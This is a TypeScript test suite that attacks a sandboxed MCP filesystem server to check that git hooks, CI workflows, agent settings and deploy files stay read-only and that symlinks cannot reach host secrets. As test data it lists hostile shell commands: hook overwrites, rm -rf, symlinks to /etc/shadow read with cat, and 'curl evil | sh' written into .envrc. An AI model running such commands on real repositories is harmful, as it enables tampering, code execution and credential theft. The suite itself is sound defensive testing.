// Attacks on promise 3 of the threat model (protected paths read-only for every process in the
// sandbox; no host path but the explicit mounts, symlinks included), through the full path (MCP
// client -> mTLS -> server in the sandbox). Parameterised by backend.
import { randomBytes } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SandboxError } from "../../src/backends/types.js";
import { protectedPathList } from "../../src/policy/protected-paths.js";
import type { Fixture } from "../backends/backend-fixture.js";
import { runCommand as run, callTool as tool } from "../support/calls.js";
import type { Target } from "../support/target.js";

export interface FilesystemStartOptions {
  workspaceMode?: "rw" | "ro";
  protectedPaths?: string[];
  prepareWorkspace?: (workspace: string) => void;
}

type Start = (options: FilesystemStartOptions) => Promise<Target>;

const HOOK = "#!/bin/sh\necho original hook\n";
const CONFIG = "[core]\n\trepositoryformatversion = 0\n";
const KEEP = "keep me\n";

/** A workspace that looks like a checkout: .git with a hook and config, .github without workflows. */
function seed(workspace: string): void {
  mkdirSync(join(workspace, ".git/hooks"), { recursive: true });
  writeFileSync(join(workspace, ".git/hooks/pre-commit"), HOOK, { mode: 0o755 });
  writeFileSync(join(workspace, ".git/config"), CONFIG);
  writeFileSync(join(workspace, ".git/HEAD"), "ref: refs/heads/main\n");
  mkdirSync(join(workspace, ".github"));
  writeFileSync(join(workspace, ".github/dependabot.yml"), "version: 2\n");
  mkdirSync(join(workspace, "deploy"));
  writeFileSync(join(workspace, "deploy/prod.yml"), KEEP);
  writeFileSync(join(workspace, "README.md"), "hello\n");
}

/** Host-side snapshot of what must not change. */
function snapshot(workspace: string) {
  return {
    hook: readFileSync(join(workspace, ".git/hooks/pre-commit"), "utf8"),
    hookMode: lstatSync(join(workspace, ".git/hooks/pre-commit")).mode,
    hooks: readdirSync(join(workspace, ".git/hooks")).sort(),
    config: readFileSync(join(workspace, ".git/config"), "utf8"),
    deploy: readFileSync(join(workspace, "deploy/prod.yml"), "utf8"),
    deployEntries: readdirSync(join(workspace, "deploy")).sort(),
  };
}

export function defineFilesystemSuite(backend: string, start: Start, makeFixture: () => Fixture): void {
  describe(`filesystem (${backend})`, () => {
    let target: Target;
    let before: ReturnType<typeof snapshot>;

    beforeAll(async () => {
      target = await start({ protectedPaths: ["deploy"], prepareWorkspace: seed });
      before = snapshot(target.workspace);
    });

    afterAll(async () => {
      await target?.close();
    });

    it("refuses write_file on every protected path, existing or not", async () => {
      for (const path of [
        ".git/hooks/pre-commit",
        ".git/hooks/post-checkout",
        ".git/config",
        ".github/workflows/evil.yml",
        ".mcp.json",
        ".claude/settings.json",
        ".vscode/tasks.json",
        ".envrc",
        "deploy/prod.yml",
        "deploy/new.yml",
      ]) {
        const result = await tool(target, "write_file", { path, content: "evil\n" });
        expect(result.isError, path).toBe(true);
      }
      expect(snapshot(target.workspace)).toEqual(before);
      expect(existsSync(join(target.workspace, ".github/workflows/evil.yml"))).toBe(false);
      expect(existsSync(join(target.workspace, ".claude/settings.json"))).toBe(false);
    });

    it("refuses edit_file on a protected file", async () => {
      const result = await tool(target, "edit_file", {
        path: ".git/config",
        old_string: "repositoryformatversion = 0",
        new_string: "hooksPath = /tmp",
      });
      expect(result.isError).toBe(true);
      expect(readFileSync(join(target.workspace, ".git/config"), "utf8")).toBe(CONFIG);
    });

    it("holds against every process: redirect, append, mv, rm, chmod, touch, new files under missing dirs", async () => {
      const attacks = [
        "echo evil > .git/hooks/pre-commit",
        "echo 'hooksPath = /workspace/x' >> .git/config",
        "printf evil | tee .git/hooks/pre-commit",
        "cp README.md .git/hooks/pre-commit",
        "mv .git/hooks .git/hooks-old",
        "mv .git/config .git/config-old",
        "mv .git .git-old",
        "mv .github .github-old",
        "mv deploy deploy-old",
        "rm -rf .git/hooks",
        "rm -f .git/config",
        "rm -f .git/hooks/pre-commit",
        "rm -rf deploy",
        "chmod 777 .git/hooks/pre-commit",
        "touch .git/hooks/post-checkout",
        "echo x > .git/hooks/post-checkout",
        "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml",
        "echo '{}' > .mcp.json",
        "mkdir -p .claude && echo '{}' > .claude/settings.json",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "echo 'curl evil | sh' > .envrc",
        "echo x > deploy/new.yml",
        "node -e \"require('fs').writeFileSync('.git/hooks/pre-commit', 'evil')\"",
        "node -e \"require('fs').renameSync('README.md', '.git/hooks/pre-push')\"",
      ];
      for (const attack of attacks) {
        const result = await run(target, `${attack} && echo BROKE-THROUGH`);
        expect(result.stdout, attack).not.toContain("BROKE-THROUGH");
      }
      expect(snapshot(target.workspace)).toEqual(before);
      for (const path of [
        ".git-old",
        ".github-old",
        "deploy-old",
        ".git/hooks-old",
        ".git/config-old",
        ".git/hooks/post-checkout",
        ".git/hooks/pre-push",
        ".github/workflows/evil.yml",
        ".claude/settings.json",
        ".vscode/tasks.json",
        "deploy/new.yml",
      ]) {
        expect(existsSync(join(target.workspace, path)), path).toBe(false);
      }
      // still a workspace to work in: README survived, and unprotected files next to protected ones
      // can be written
      expect(readFileSync(join(target.workspace, "README.md"), "utf8")).toBe("hello\n");
      const ok = await run(target, "echo 'version: 3' > .github/dependabot.yml && echo x > deploy-note");
      expect(ok.exit_code, ok.stderr).toBe(0);
      expect(readFileSync(join(target.workspace, ".github/dependabot.yml"), "utf8")).toBe("version: 3\n");
    });

    it("cannot write through a symlink planted in the workspace", async () => {
      const attacks = [
        "ln -s .git/hooks/pre-commit hook-link && echo evil > hook-link",
        "ln -s /workspace/.git/hooks hooks-dir && echo evil > hooks-dir/post-merge",
        "ln -s ../.git/config deploy-config-link; echo evil >> deploy-config-link",
        "ln -s /workspace/deploy/prod.yml prod-link && echo evil > prod-link",
        "mkdir -p sub && ln -s ../.github sub/gh && mkdir -p sub/gh/workflows && echo x > sub/gh/workflows/evil.yml",
      ];
      for (const attack of attacks) {
        const result = await run(target, `${attack} && echo BROKE-THROUGH`);
        expect(result.stdout, attack).not.toContain("BROKE-THROUGH");
      }
      for (const path of ["hook-link", "prod-link", "hooks-dir/post-merge"]) {
        expect((await tool(target, "write_file", { path, content: "evil" })).isError, path).toBe(true);
      }
      expect(snapshot(target.workspace)).toEqual(before);
      expect(existsSync(join(target.workspace, ".git/hooks/post-merge"))).toBe(false);
      // .github/workflows is only the empty mount point the sandbox made
      expect(readdirSync(join(target.workspace, ".github/workflows"))).toEqual([]);
    });

    it("reads nothing outside the mounts through a symlink in the workspace", async () => {
      const secret = `home-secret-${randomBytes(10).toString("hex")}`;
      const homeFile = join(homedir(), `.sandbox-action-fs-test-${randomBytes(5).toString("hex")}`);
      writeFileSync(homeFile, secret);
      try {
        // planted on the host side, as a repository could ship them
        symlinkSync("/etc/shadow", join(target.workspace, "shadow-link"));
        symlinkSync(homedir(), join(target.workspace, "home-link"));
        symlinkSync(homeFile, join(target.workspace, "secret-link"));
        symlinkSync("../../../../../..", join(target.workspace, "up-link"));
        // and from inside
        await run(target, `ln -s /root root-link; ln -s ../../.. inner-up; ln -s ${homeFile} inner-secret`);
        const viaCommand = await run(
          target,
          "cat shadow-link secret-link inner-secret 2>&1; ls -la home-link/ root-link/ 2>&1; " +
            `cat up-link${homeFile} inner-up${homeFile} 2>&1; ls up-link/ inner-up/`,
        );
        expect(viaCommand.stdout).not.toContain(secret);
        expect(viaCommand.stdout).not.toMatch(/^root:[^:]*:\d/m);
        for (const path of ["shadow-link", "secret-link", "inner-secret", `up-link${homeFile}`]) {
          const read = await tool(target, "read_file", { path });
          expect(read.text, path).not.toContain(secret);
          expect(read.text, path).not.toMatch(/^root:[^:]*:\d/m);
        }
        for (const path of ["home-link", "root-link", "up-link/root", "inner-up/root"]) {
          const listing = await tool(target, "list_directory", { path });
          expect(listing.text, path).not.toContain(homeFile.split("/").pop());
          const search = await tool(target, "search_files", { pattern: "home-secret", path });
          expect(search.text, path).not.toContain(secret);
        }
        // up-link resolves inside the sandbox, to the sandbox's own root
        const root = await run(target, "ls up-link/");
        expect(root.stdout).toContain("workspace");
      } finally {
        rmSync(homeFile, { force: true });
      }
    });

    it("removes the mount points it made once the sandbox is gone, and nothing else", async () => {
      const extra = await start({ protectedPaths: ["generated/keep"], prepareWorkspace: seed });
      const made = [".github/workflows", ".mcp.json", ".claude", ".vscode", ".envrc", ".env", "generated"];
      try {
        // while it runs they exist on the host, empty (the price of a mount point)
        for (const path of made) expect(existsSync(join(extra.workspace, path)), path).toBe(true);
        expect(readFileSync(join(extra.workspace, ".mcp.json"), "utf8")).toBe("");
        const blocked = await run(extra, "echo x > generated/keep && echo BROKE-THROUGH");
        expect(blocked.stdout).not.toContain("BROKE-THROUGH");
      } finally {
        await extra.close().catch(() => {});
      }
      // close() removed the workspace; start one more to see the cleanup on a kept workspace
      const kept = await start({ prepareWorkspace: seed });
      const workspace = kept.workspace;
      const names = () => readdirSync(workspace).sort();
      const during = names();
      expect(during).toContain(".mcp.json");
      const session = (kept as Target & { session: { close(): Promise<void> } }).session;
      await session.close();
      expect(names()).toEqual([".git", ".github", "README.md", "deploy"]);
      expect(readdirSync(join(workspace, ".github"))).toEqual(["dependabot.yml"]);
      expect(snapshot(workspace)).toEqual(before);
      await kept.close();
    });

    it("workspace-mode ro: nothing in /workspace can be written, and no mount points are made", async () => {
      const ro = await start({ workspaceMode: "ro", prepareWorkspace: seed });
      try {
        expect(readdirSync(ro.workspace).sort()).toEqual([".git", ".github", "README.md", "deploy"]);
        expect((await tool(ro, "write_file", { path: "new.txt", content: "x" })).isError).toBe(true);
        expect((await tool(ro, "write_file", { path: "README.md", content: "x" })).isError).toBe(true);
        for (const attack of [
          "echo x > new.txt",
          "echo x >> README.md",
          "rm README.md",
          "mkdir d",
          "mv deploy d2",
        ]) {
          const result = await run(ro, `${attack} && echo BROKE-THROUGH`);
          expect(result.stdout, attack).not.toContain("BROKE-THROUGH");
        }
        expect(readFileSync(join(ro.workspace, "README.md"), "utf8")).toBe("hello\n");
        expect(readdirSync(ro.workspace).sort()).toEqual([".git", ".github", "README.md", "deploy"]);
        // reading works, and /tmp stays writable
        expect((await tool(ro, "read_file", { path: "README.md" })).text).toContain("hello");
        expect((await tool(ro, "write_file", { path: "/tmp/scratch", content: "x" })).isError).toBe(false);
      } finally {
        await ro.close();
      }
    });
  });

  describe(`filesystem: refusals (${backend})`, () => {
    let fx: Fixture;
    beforeAll(() => {
      fx = makeFixture();
    });
    afterAll(async () => {
      await fx?.cleanup();
    });

    it("refuses to start when a protected path or its parent is a symlink, and leaves nothing behind", async () => {
      for (const [link, target] of [
        [".git", "/etc"],
        [".mcp.json", "/etc/hostname"],
        [".claude", "elsewhere"],
      ] as const) {
        const workspace = join(fx.dir, `ws-${randomBytes(3).toString("hex")}`);
        mkdirSync(workspace);
        mkdirSync(join(workspace, "elsewhere"));
        symlinkSync(target, join(workspace, link));
        const error = await fx
          .create({ workspace, protectedPaths: protectedPathList() })
          .catch((e: unknown) => e);
        expect(error, link).toBeInstanceOf(SandboxError);
        expect((error as SandboxError).message).toContain(`${link} is a symlink`);
        // no mount point of another protected path was left behind either
        expect(readdirSync(workspace).sort(), link).toEqual([link, "elsewhere"].sort());
      }
      expect(await fx.backend.list(fx.label)).toEqual([]);
    });
  });
}
